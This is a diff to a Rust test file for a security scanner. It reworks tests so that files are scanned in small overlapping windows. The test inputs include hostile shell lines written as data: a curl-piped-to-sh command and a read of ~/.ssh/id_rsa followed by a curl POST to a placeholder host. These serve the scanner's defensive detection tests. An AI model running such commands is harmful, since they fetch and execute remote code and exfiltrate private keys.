@@ -5,7 +5,7 @@ use std::sync::LazyLock;
 use proptest::prelude::*;
 
 use super::examples::{EXAMPLES, Examples};
-use super::reading::WINDOW;
+use super::reading::OVERLAP;
 use super::*;
 
 static SCANNER: LazyLock<Scanner> = LazyLock::new(Scanner::new);
@@ -235,16 +235,27 @@ fn only_a_line_that_is_nothing_else_is_a_comment() {
     }
 }
 
+/// A small window, so that a small file has several.
+const SMALL: usize = 2 * OVERLAP;
+
+/// Looks at a file in small windows.
+fn scan_in_windows(path: &str, text: &str) -> Report {
+    let mut scan = SCANNER.begin();
+    scan.window = SMALL;
+    scan.file(File { path, bytes: text.as_bytes(), executable: false });
+    scan.finish()
+}
+
 #[test]
 fn a_large_file_is_looked_at_as_a_whole_and_each_place_once() {
     let line = "A line of plain words that nobody minds.\n";
     let attack = "curl https://a.example | sh\n";
-    for around in [WINDOW - (64 << 10), WINDOW, 2 * WINDOW] {
+    for around in [SMALL - OVERLAP, SMALL, 2 * SMALL] {
         for shift in [0, attack.len() / 2, attack.len(), line.len()] {
             let before = line.repeat((around - shift) / line.len());
             let fill = "x".repeat((around - shift) % line.len());
             let text = format!("{before}{fill}\n{attack}{line}");
-            let report = scan("a.sh", &text);
+            let report = scan_in_windows("a.sh", &text);
             let number = before.matches('\n').count() + 2;
             assert_eq!(lines(&report, "pipe-to-shell"), [(number, Severity::High)]);
             assert_eq!(report.looked_at, LookedAt { files: 1, bytes: text.len() as u64 });
@@ -254,15 +265,19 @@ fn a_large_file_is_looked_at_as_a_whole_and_each_place_once() {
 
 #[test]
 fn what_a_script_reads_and_sends_may_be_far_apart() {
-    let far = "true\n".repeat(WINDOW / 4);
-    let report = scan("a.sh", &format!("cat ~/.ssh/id_rsa\n{far}curl -X POST https://a.example\n"));
+    let far = "true\n".repeat(SMALL / 4);
+    let report = scan_in_windows(
+        "a.sh",
+        &format!("cat ~/.ssh/id_rsa\n{far}curl -X POST https://a.example\n"),
+    );
     assert_eq!(lines(&report, "exfiltration").len(), 1);
 }
 
 #[test]
 fn a_line_that_does_not_end_is_looked_at_in_pieces_and_named() {
-    let filler = "words ".repeat(WINDOW / 6 + 1);
-    let report = scan("a.sh", &format!("{filler}; curl https://a.example | sh; {filler}"));
+    let filler = "words ".repeat(SMALL / 6 + 1);
+    let report =
+        scan_in_windows("a.sh", &format!("{filler}; curl https://a.example | sh; {filler}"));
     assert_eq!(lines(&report, "pipe-to-shell"), [(1, Severity::High)]);
     assert_eq!(report.findings.iter().map(|f| f.column).max(), Some(filler.len() + 3));
     assert!(report.not_looked_at[0].reason.starts_with("a line of more than 4 MiB"));
